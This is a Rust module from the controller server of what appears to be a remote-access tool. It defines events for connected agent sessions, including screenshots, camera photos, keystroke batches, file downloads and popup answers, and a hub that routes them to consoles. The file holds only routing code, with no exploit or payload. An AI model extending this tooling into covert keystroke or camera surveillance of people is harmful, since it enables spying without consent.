//! Server events and their routing to front ends.
//!
//! The server never prints or renders anything itself.  Whatever a front end
//! might care about (a connection, a saved screenshot, a dialog answer, an
//! agent-side error) becomes a [`ServerEvent`] handed to the [`EventHub`].
//!
//! # Routing
//!
//! A front end may subscribe to one session and receive that session's
//! events on a dedicated channel.  Events for sessions without a subscriber
//! go to the default consumer.  Connection lifecycle events always reach the
//! default consumer as well, so the main console keeps an accurate list.

use std::collections::HashMap;
use std::fmt;
use std::path::PathBuf;
use std::sync::{Mutex, PoisonError};

use tether_core::Response;
use tokio::sync::mpsc;
use tracing::trace;

use crate::application::session_registry::SessionId;

/// Which capture collaborator produced an image.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CaptureKind {
    Screenshot,
    Photo,
}

impl CaptureKind {
    pub fn as_str(self) -> &'static str {
        match self {
            CaptureKind::Screenshot => "screenshot",
            CaptureKind::Photo => "photo",
        }
    }
}

impl fmt::Display for CaptureKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Something a front end may want to show.
#[derive(Debug, Clone, PartialEq)]
pub enum ServerEvent {
    SessionConnected {
        session: SessionId,
    },
    SessionDisconnected {
        session: SessionId,
    },
    /// A `pong` arrived.
    Heartbeat {
        session: SessionId,
    },
    CaptureSaved {
        session: SessionId,
        kind: CaptureKind,
        path: PathBuf,
    },
    DownloadSaved {
        session: SessionId,
        path: PathBuf,
        size: u64,
    },
    PopupAnswered {
        session: SessionId,
        button: String,
    },
    /// Any other response: keystroke batches, listings, file details, drives,
    /// and filesystem failures.
    Data {
        session: SessionId,
        response: Response,
    },
    /// The agent reported an error, or its response could not be handled.
    PeerError {
        session: SessionId,
        message: String,
    },
}

impl ServerEvent {
    /// The session this event concerns.
    pub fn session(&self) -> &str {
        match self {
            ServerEvent::SessionConnected { session }
            | ServerEvent::SessionDisconnected { session }
            | ServerEvent::Heartbeat { session }
            | ServerEvent::CaptureSaved { session, .. }
            | ServerEvent::DownloadSaved { session, .. }
            | ServerEvent::PopupAnswered { session, .. }
            | ServerEvent::Data { session, .. }
            | ServerEvent::PeerError { session, .. } => session,
        }
    }

    fn is_lifecycle(&self) -> bool {
        matches!(
            self,
            ServerEvent::SessionConnected { .. } | ServerEvent::SessionDisconnected { .. }
        )
    }
}

impl fmt::Display for ServerEvent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ServerEvent::SessionConnected { session } => write!(f, "[+] {session} connected"),
            ServerEvent::SessionDisconnected { session } => {
                write!(f, "[-] {session} disconnected")
            }
            ServerEvent::Heartbeat { session } => write!(f, "[.] {session} heartbeat"),
            ServerEvent::CaptureSaved {
                session,
                kind,
                path,
            } => write!(f, "[+] {session} {kind} saved to {}", path.display()),
            ServerEvent::DownloadSaved {
                session,
                path,
                size,
            } => write!(
                f,
                "[+] {session} download saved to {} ({size} bytes)",
                path.display()
            ),
            ServerEvent::PopupAnswered { session, button } => {
                write!(f, "[+] {session} popup answered: {button}")
            }
            ServerEvent::Data { session, response } => {
                write!(f, "[*] {session} {}: {:?}", response.tag(), response.body)
            }
            ServerEvent::PeerError { session, message } => {
                write!(f, "[!] {session} error: {message}")
            }
        }
    }
}

/// Fans server events out to subscribers.
pub struct EventHub {
    default_tx: mpsc::UnboundedSender<ServerEvent>,
    subscribers: Mutex<HashMap<SessionId, mpsc::UnboundedSender<ServerEvent>>>,
}

impl EventHub {
    /// Creates a hub and the receiver of the default consumer.
    pub fn new() -> (Self, mpsc::UnboundedReceiver<ServerEvent>) {
        let (default_tx, default_rx) = mpsc::unbounded_channel();
        let hub = Self {
            default_tx,
            subscribers: Mutex::new(HashMap::new()),
        };
        (hub, default_rx)
    }

    /// Routes every later event for `session` to the returned receiver.
    ///
    /// Replaces any earlier subscription to the same session.
    pub fn subscribe(&self, session: &str) -> mpsc::UnboundedReceiver<ServerEvent> {
        let (tx, rx) = mpsc::unbounded_channel();
        self.lock().insert(session.to_string(), tx);
        rx
    }

    pub fn unsubscribe(&self, session: &str) {
        self.lock().remove(session);
    }

    /// Delivers `event` to its session's subscriber, or to the default
    /// consumer when there is none.
    ///
    /// A subscriber whose receiver has been dropped is forgotten and the
    /// event falls back to the default consumer.
    pub fn emit(&self, event: ServerEvent) {
        let delivered = {
            let mut subscribers = self.lock();
            match subscribers.get(event.session()) {
                Some(tx) => match tx.send(event.clone()) {
                    Ok(()) => true,
                    Err(_) => {
                        subscribers.remove(event.session());
                        false
                    }
                },
                None => false,
            }
        };

        if !delivered || event.is_lifecycle() {
            if self.default_tx.send(event).is_err() {
                trace!("default event consumer is gone; event dropped");
            }
        }
    }

    fn lock(
        &self,
    ) -> std::sync::MutexGuard<'_, HashMap<SessionId, mpsc::UnboundedSender<ServerEvent>>> {
        self.subscribers.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

// ── Tests ─────────────────────────────────────────────────────────────────────
